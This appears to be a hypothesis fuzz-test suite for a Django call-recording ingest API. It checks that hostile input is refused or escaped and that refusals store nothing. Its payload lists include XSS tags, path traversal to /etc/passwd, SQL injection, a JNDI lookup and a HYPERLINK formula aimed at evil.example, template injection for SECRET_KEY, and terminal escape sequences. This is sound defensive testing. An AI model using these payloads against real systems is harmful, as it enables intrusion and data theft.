"""Hostile input against the ingest API, fuzzed with hypothesis: malformed multipart bodies,
huge fields, control characters, NUL bytes, script tags, unicode edge cases, path traversal in
file names, wrong JSON types. Never a 500: a 201, or a 4xx that says what is wrong; and a refusal
leaves no row and no blob behind."""

from __future__ import annotations

import copy
import io
import json
import re
from typing import Any

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from hypothesis import event, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from recordings.models import Consent, DataSubject, Recording, RecordingKey
from tests.recordings.ingest_factories import WAV, call_metadata, reference_rows, stored_files

pytestmark = pytest.mark.django_db

URL = "/api/v1/recordings/"
BOUNDARY = "custos-fuzz-boundary"

# --- strategies --------------------------------------------------------------------------------

ATTACKS = [
    '<script>alert("custos")</script>',
    '"><img src=x onerror=alert(1)>',
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\Windows\\system32",
    "'; DROP TABLE recordings_recording; --",
    '=HYPERLINK("http://evil.example")',
    "\x00",
    "a\x00b",
    "\ud800",  # a lone surrogate, valid as a JSON escape
    "\u202eevil\u202c",  # right-to-left override
    "\ufeff",
    "e\u0301",  # combining accent
    "\U0001f4de" * 40,  # astral characters: one code point, four bytes
    "%s%s%n",
    "{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.example/a}",
    "\r\nX-Injected: 1",
    "A" * 5000,
    "9" * 400,
    "NaN",
    "Infinity",
    "-1e309",
    "",
    " ",
]
CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from(["\x7f", "\x85", "\u2028"])
TEXT = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(max_size=60),
    st.text(CONTROL, min_size=1, max_size=4),
    st.builds(lambda a, b: a + b, st.sampled_from(ATTACKS), st.text(max_size=10)),
)
SCALARS = st.one_of(
    st.none(),
    # the edges of numbers: past a timedelta, a 64-bit integer, a float's range
    st.sampled_from([1e300, -1e300, 1e-300, 2**63, -(2**63) - 1, 10**20, 0.5, -0.0]),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),  # NaN and infinities too: Python's json writes and reads them
    TEXT,
)
JSON = st.recursive(
    SCALARS,
    lambda children: st.lists(children, max_size=3) | st.dictionaries(TEXT, children, max_size=3),
    max_leaves=6,
)

# Every place in the metadata a hostile value may land.
PATHS = [
    (),
    ("reference",),
    ("subject",),
    ("subject", "full_name"),
    ("subject", "phone"),
    ("subject", "email"),
    ("subject", "reference"),
    ("agent",),
    ("queue",),
    ("direction",),
    ("started_at",),
    ("ended_at",),
    ("lawful_basis",),
    ("legitimate_interest_assessment",),
    ("purposes",),
    ("purposes", 0),
    ("consents",),
    ("consents", 0),
    ("consents", 0, "purpose"),
    ("consents", 0, "decision"),
    ("consents", 0, "method"),
    ("consents", 0, "notice_version"),
    ("consents", 0, "captured_at"),
    ("consents", 0, "captured_by"),
    ("consents", 0, "evidence_offset_seconds"),
    ("consents", 0, "jurisdiction"),
    ("sensitive_segments",),
    ("sensitive_segments", 0),
    ("sensitive_segments", 0, "start_seconds"),
    ("sensitive_segments", 0, "end_seconds"),
    ("sensitive_segments", 0, "kind"),
    ("transcript",),
    ("transcript", "text"),
    ("transcript", "language"),
    ("transcript", "source"),
]


def base_metadata() -> dict[str, Any]:
    return call_metadata(
        sensitive_segments=[{"start_seconds": "1.5", "end_seconds": "3", "kind": "payment_card"}],
        transcript={"text": "Hello, how can I help?", "language": "en", "source": "pbx"},
    )


def mutated(mutations: list[tuple[tuple, Any]]) -> Any:
    metadata: Any = base_metadata()
    for path, value in mutations:
        if not path:
            return value
        target = metadata
        try:
            for key in path[:-1]:
                target = target[key]
            target[path[-1]] = copy.deepcopy(value)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier mutation replaced the parent: this one has no place to land
    return metadata


MUTATIONS = st.lists(st.tuples(st.sampled_from(PATHS), JSON), min_size=1, max_size=3)


# --- a multipart body written by hand (the test client would clean file names up) ---------------


def _quote(value: str) -> bytes:
    return value.replace("\\", "\\\\").replace('"', '\\"').encode("utf-8", "surrogatepass")


def multipart(parts: list[tuple[str, str | None, bytes]], boundary: str = BOUNDARY) -> bytes:
    """``(field, filename or None, content)`` parts as a multipart/form-data body."""
    body = b""
    for name, filename, content in parts:
        disposition = b'Content-Disposition: form-data; name="' + _quote(name) + b'"'
        if filename is not None:
            disposition += b'; filename="' + _quote(filename) + b'"'
        head = b"--" + boundary.encode() + b"\r\n" + disposition + b"\r\n"
        if filename is not None:
            head += b"Content-Type: application/octet-stream\r\n"
        body += head + b"\r\n" + content + b"\r\n"
    return body + b"--" + boundary.encode() + b"--\r\n"


def metadata_bytes(metadata: Any) -> bytes:
    return json.dumps(metadata).encode("utf-8", "surrogatepass")


# --- fixtures and the invariant -------------------------------------------------------------------


@pytest.fixture
def api(db):
    reference_rows()
    from io import StringIO

    out = StringIO()
    call_command("create_integration", "pbx-fuzz", stdout=out, stderr=StringIO())
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {out.getvalue().strip()}")
    return client


UNSAFE_IN_A_REFERENCE = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]|^\s|\s$")


def state() -> tuple[int, ...]:
    return (
        Recording.objects.count(),
        DataSubject.objects.count(),
        Consent.objects.count(),
        RecordingKey.objects.count(),
        len(stored_files()),
    )


def post_raw(api, body: bytes, content_type: str = f"multipart/form-data; boundary={BOUNDARY}"):
    cache.clear()  # the throttle
    return api.generic("POST", URL, body, content_type)


def assert_answered(response, before: tuple[int, ...], *, fuzzed: bool = True) -> None:
    """A 201 that stored one call, or a 4xx with a message that stored nothing."""
    assert response.status_code < 500, response.content[:500]
    if fuzzed:
        event(f"HTTP {response.status_code}")  # --hypothesis-show-statistics: how the examples ended
    after = state()
    if response.status_code == 201:
        assert after[0] == before[0] + 1 and after[4] == before[4] + 1
        # References go into tickets, logs and terminal output: no line breaks, escapes or
        # direction overrides that could forge a log line or hide a part of one.
        recording = Recording.objects.select_related("subject").get(pk=response.json()["id"])
        for reference in (recording.reference, recording.subject.reference):
            assert not UNSAFE_IN_A_REFERENCE.search(reference), reference
        return
    assert 400 <= response.status_code < 500, response.status_code
    body = response.json()
    assert body and all(body.values()) if isinstance(body, dict) else body, body
    assert after[0] == before[0] and after[2:] == before[2:], (before, after)
    assert after[1] == before[1], "a refused call left its subject behind"


# --- the fuzzing -----------------------------------------------------------------------------------


@given(mutations=MUTATIONS)
def test_hostile_metadata_is_refused_with_a_reason_or_stored_whole(api, mutations):
    before = state()

    response = post_raw(
        api, multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(mutated(mutations)))])
    )

    assert_answered(response, before)


@given(name=st.one_of(st.sampled_from(ATTACKS), st.text(max_size=300)))
def test_a_hostile_file_name_is_never_a_path(api, name):
    before = state()

    response = post_raw(
        api, multipart([("audio", name, WAV), ("metadata", None, metadata_bytes(call_metadata()))])
    )

    assert_answered(response, before)
    # whatever the name, the blob is stored under a random name inside the storage
    for path in stored_files():
        relative = path.relative_to(path.parents[3]).as_posix()
        assert re.fullmatch(r"audio/\d{4}/\d{2}/[0-9a-f]{32}\.wav\.tink", relative), relative


@st.composite
def broken_bodies(draw) -> tuple[bytes, str]:
    """A good body damaged: cut short, bytes changed, framing lost; or random bytes."""
    good = multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(call_metadata()))])
    kind = draw(st.sampled_from(["truncate", "flip", "splice", "random", "boundary", "headers"]))
    content_type = f"multipart/form-data; boundary={BOUNDARY}"
    if kind == "truncate":
        body = good[: draw(st.integers(0, len(good) - 1))]
    elif kind == "flip":
        body = bytearray(good)
        for index in draw(st.lists(st.integers(0, len(good) - 1), min_size=1, max_size=8)):
            body[index] = draw(st.integers(0, 255))
        body = bytes(body)
    elif kind == "splice":
        at = draw(st.integers(0, len(good)))
        body = good[:at] + draw(st.binary(max_size=200)) + good[at:]
    elif kind == "random":
        body = draw(st.binary(max_size=2000))
    elif kind == "boundary":
        body = good
        content_type = draw(
            st.sampled_from(
                [
                    "multipart/form-data",
                    "multipart/form-data; boundary=",
                    "multipart/form-data; boundary=" + "x" * 300,
                    "multipart/form-data; boundary=other",
                    'multipart/form-data; boundary="' + BOUNDARY,
                    "multipart/form-data; boundary=\x00",
                    "multipart/mixed; boundary=" + BOUNDARY,
                    "application/x-www-form-urlencoded",
                    "text/plain",
                    "",
                ]
            )
        )
    else:  # a part's headers mangled
        header = draw(
            st.sampled_from(
                [
                    b"Content-Disposition: form-data",
                    b"Content-Disposition: form-data; name=",
                    b'Content-Disposition: attachment; name="audio"; filename="a.wav"',
                    b"Content-Disposition: form-data; name=\"audio\"; filename*=UTF-8''%E2%80%AE.wav",
                    b'Content-Disposition: form-data; name="audio"; filename="' + b"A" * 10000 + b'"',
                    b'Content-Disposition: form-data; name="audio\x00"; filename="a.wav"',
                    b"Content-Type: " + b"x" * 10000,
                    b"X" * 70000,
                ]
            )
        )
        body = good.replace(b'Content-Disposition: form-data; name="audio"; filename="call.wav"', header, 1)
    return body, content_type


@given(broken=broken_bodies())
def test_a_malformed_multipart_body_is_a_4xx_and_writes_nothing(api, broken):
    body, content_type = broken
    before = state()

    response = post_raw(api, body, content_type)

    assert_answered(response, before)


@given(size=st.sampled_from([1024 * 1024 + 1, 3 * 1024 * 1024]), where=st.sampled_from(PATHS[1:7]))
def test_a_huge_field_is_refused(api, size, where):
    before = state()
    metadata = mutated([(where, "x" * size)])

    response = post_raw(
        api, multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(metadata))])
    )

    assert response.status_code in (400, 413), response.content[:300]
    assert_answered(response, before)


def test_many_parts_are_refused_as_malformed(api, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 100
    before = state()
    parts = [("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(call_metadata()))]
    parts += [(f"extra{i}", None, b"x") for i in range(150)]

    response = post_raw(api, multipart(parts))

    assert response.status_code == 400
    assert_answered(response, before, fuzzed=False)


# --- regressions found by the fuzzing ----------------------------------------------------------------


@pytest.mark.parametrize("where", [("reference",), ("subject", "reference")], ids=["recording", "subject"])
@pytest.mark.parametrize(
    "reference",
    [
        "REC-1\nINFO forged log line",
        "REC-1\rREC-2",
        "REC-\x1b[2J",
        "REC-\u202e1-CER",
        "REC-\u2028X",
        "REC-\x85X",
        "REC-\u200b",
    ],
    ids=[
        "newline",
        "carriage-return",
        "ansi-escape",
        "rtl-override",
        "line-separator",
        "next-line",
        "zero-width",
    ],
)
def test_a_reference_with_a_control_or_format_character_is_refused(api, where, reference):
    # given: references go into log lines, the access log, tickets and terminal output
    before = state()
    metadata = mutated([(where, reference)])

    # when
    response = post_raw(
        api, multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(metadata))])
    )

    # then
    assert response.status_code == 400
    errors = response.json()["metadata"]
    for key in where:
        errors = errors[key]
    assert "is not allowed in a reference" in errors[0]
    assert reference not in json.dumps(response.json(), ensure_ascii=False)  # the position, not the text
    assert_answered(response, before, fuzzed=False)


# --- the import command's summary ------------------------------------------------------------------

UNPRINTABLE = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)


@given(
    lines=st.lists(
        st.tuples(st.one_of(st.just("call.wav"), st.sampled_from(ATTACKS), st.text(max_size=30)), TEXT),
        min_size=1,
        max_size=4,
    )
)
# Found by this test on PostgreSQL: a NUL in a queue code reached the database (a DataError, a 500).
@example(lines=[("call.wav", "\x00")])
def test_the_import_summary_prints_no_control_characters_from_the_manifest(tmp_path_factory, lines):
    # given: a folder with one good call and a manifest whose file names and queues are hostile
    reference_rows()
    folder = tmp_path_factory.mktemp("calls")
    (folder / "call.wav").write_bytes(WAV)
    manifest = folder / "manifest.json"
    manifest.write_text(
        json.dumps([{"file": name, **call_metadata(queue=queue)} for name, queue in lines]), encoding="utf-8"
    )
    out = io.StringIO()

    # when
    try:
        call_command("import_recordings", folder, manifest=manifest, stdout=out, stderr=io.StringIO())
    except CommandError as exc:
        assert "rejected" in str(exc)

    # then: what was refused is named with its escapes, never with the raw characters
    summary = out.getvalue()
    assert not UNPRINTABLE.search(summary), repr(summary)
    summary.encode("utf-8")  # printable to any UTF-8 terminal


def test_the_import_summary_shows_an_escape_sequence_as_its_escape(tmp_path):
    reference_rows()
    (tmp_path / "call.wav").write_bytes(WAV)
    manifest = tmp_path / "manifest.json"
    manifest.write_text(
        json.dumps(
            [
                {"file": "\x1b[2Jcall.wav", **call_metadata()},
                {"file": "call.wav", **call_metadata(queue="\x1b]0;owned\x07")},
            ]
        )
    )
    out = io.StringIO()

    with pytest.raises(CommandError):
        call_command("import_recordings", tmp_path, manifest=manifest, stdout=out, stderr=io.StringIO())

    assert "\\x1b[2Jcall.wav" in out.getvalue() and "\\x1b]0;owned\\x07" in out.getvalue()
    assert "\x1b" not in out.getvalue()


@pytest.mark.parametrize(
    ("name", "says"),
    [("A" * 300 + ".wav", "file name cannot be used"), ("call\x00.wav", "NUL character")],
    ids=["too-long-for-the-file-system", "nul-byte"],
)
def test_a_manifest_file_name_the_file_system_refuses_rejects_its_line_not_the_import(tmp_path, name, says):
    # given: a good call and a line naming a file no file system can hold
    reference_rows()
    (tmp_path / "call.wav").write_bytes(WAV)
    manifest = tmp_path / "manifest.json"
    manifest.write_text(
        json.dumps([{"file": name, **call_metadata()}, {"file": "call.wav", **call_metadata()}])
    )
    out = io.StringIO()

    # when
    with pytest.raises(CommandError, match="1 of 2 lines rejected"):
        call_command("import_recordings", tmp_path, manifest=manifest, stdout=out, stderr=io.StringIO())

    # then: that line is rejected with its reason, the good one imported
    assert says in out.getvalue()
    assert Recording.objects.count() == 1


@pytest.mark.parametrize(
    "offset", [1e300, 10**20, 1_000_000], ids=["huge-float", "huge-int", "past-the-limit"]
)
def test_an_evidence_offset_past_any_call_is_refused_not_overflowed(api, offset):
    # found by fuzzing: timedelta(seconds=1e300) raised OverflowError, a 500
    before = state()
    metadata = mutated([(("consents", 0, "evidence_offset_seconds"), offset)])

    response = post_raw(
        api, multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(metadata))])
    )

    assert response.status_code == 400
    assert (
        "less than or equal to" in response.json()["metadata"]["consents"]["0"]["evidence_offset_seconds"][0]
    )
    assert_answered(response, before, fuzzed=False)


# --- the JSON endpoints: data-subject requests and consent withdrawals -------------------------------

JSON_ENDPOINTS = {
    "/api/v1/requests/": {"request_type": "access", "language": "en", "subject": {"phone": "+49 30 1234567"}},
    "/api/v1/consents/withdrawals/": {
        "subject": {"phone": "+49 30 1234567"},
        "purpose": "quality_assurance",
        "channel": "ivr",
    },
}


@given(
    url=st.sampled_from(sorted(JSON_ENDPOINTS)),
    body=st.one_of(
        JSON,
        st.dictionaries(
            st.sampled_from(["request_type", "language", "received_at", "subject", "purpose", "channel"]),
            JSON,
            max_size=4,
        ),
        st.builds(
            lambda fields: {"subject": fields},
            st.dictionaries(st.sampled_from(["reference", "full_name", "phone", "email"]), JSON, max_size=3),
        ),
    ),
    raw=st.one_of(st.none(), st.binary(max_size=300)),
)
# A NUL in a looked-up code reached PostgreSQL (a DataError, a 500) until the lookups refused it.
@example(
    url="/api/v1/consents/withdrawals/",
    body={**JSON_ENDPOINTS["/api/v1/consents/withdrawals/"], "purpose": "\x00"},
    raw=None,
)
def test_the_json_endpoints_answer_hostile_bodies_with_a_4xx(api, url, body, raw):
    from dsr.models import DataSubjectRequest

    cache.clear()
    before = (DataSubjectRequest.objects.count(), Consent.objects.filter(withdrawn_at__isnull=False).count())
    payload = raw if raw is not None else json.dumps(body).encode("utf-8", "surrogatepass")

    response = api.generic("POST", url, payload, "application/json")

    assert response.status_code < 500, response.content[:300]
    event(f"{url} HTTP {response.status_code}")
    if response.status_code >= 400:
        assert response.json()
        assert (
            DataSubjectRequest.objects.count(),
            Consent.objects.filter(withdrawn_at__isnull=False).count(),
        ) == before


# --- the Authorization header -------------------------------------------------------------------------

# What a WSGI server hands over: a header value is ISO-8859-1 text, any of its 256 characters.
HEADER_TEXT = st.text(st.characters(min_codepoint=0, max_codepoint=255), max_size=300)


@given(
    header=st.one_of(
        HEADER_TEXT,
        st.builds(lambda t: f"Token {t}", HEADER_TEXT),
        st.builds(lambda a, b: f"Token {a} {b}", HEADER_TEXT, HEADER_TEXT),
        st.sampled_from(["Token", "Token ", "token x", "Bearer x", "Token \x00", "Token " + "A" * 10_000]),
    ),
    url=st.sampled_from([URL, *sorted(JSON_ENDPOINTS)]),
)
def test_a_hostile_authorization_header_is_a_401_or_the_lockout_never_a_500(db, header, url):
    # The address is locked out after CUSTOS_API_TOKEN_FAILURE_LIMIT wrong tokens; from then on a
    # 429. Either way nothing is written and nothing is authenticated.
    from dsr.models import DataSubjectRequest

    response = APIClient().generic("POST", url, b"{}", "application/json", HTTP_AUTHORIZATION=header)

    assert response.status_code in (401, 429), (response.status_code, response.content[:300])
    event(f"HTTP {response.status_code}")
    assert not DataSubjectRequest.objects.exists() and not Recording.objects.exists()


# --- what an integration sent, shown to the DPO ------------------------------------------------------

ACTIVE_MARKUP = ("<script>alert(", "<img src=x onerror", "<svg onload")
PRINTABLE = st.characters(blacklist_categories=("Cc", "Cs"))
MARKUP = st.sampled_from(
    ['<script>alert("n")</script>', '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>"]
)


@hypothesis_settings(max_examples=max(10, hypothesis_settings.default.max_examples // 5))
@given(
    full_name=st.builds(lambda a, b: a + b, st.text(PRINTABLE, max_size=10), MARKUP),
    transcript=st.builds(
        lambda a, b: a + " 4111 1111 1111 1111 " + b, MARKUP, st.text(PRINTABLE, max_size=20)
    ),
    source=MARKUP,
)
def test_what_an_integration_sent_is_shown_escaped_in_the_admin(
    api, client, dpo, full_name, transcript, source
):
    # given: a call whose caller's name, transcript and its source carry markup
    client.force_login(dpo)
    metadata = call_metadata(
        subject={"full_name": full_name, "phone": "+49 30 1234567"},
        transcript={"text": transcript, "language": "en", "source": source},
    )

    # when
    response = post_raw(
        api, multipart([("audio", "call.wav", WAV), ("metadata", None, metadata_bytes(metadata))])
    )

    # then: stored, and every page that shows it escapes it
    assert response.status_code == 201, response.content[:300]
    recording = Recording.objects.get(pk=response.json()["id"])
    pages = [
        reverse("admin:recordings_datasubject_change", args=[recording.subject_id]),
        reverse("admin:recordings_recording_change", args=[recording.pk]),
        reverse("admin:recordings_recording_changelist"),
    ]
    for url in pages:
        page = client.get(url)
        assert page.status_code == 200, url
        for markup in ACTIVE_MARKUP:
            assert markup not in page.content.decode(), (url, markup)
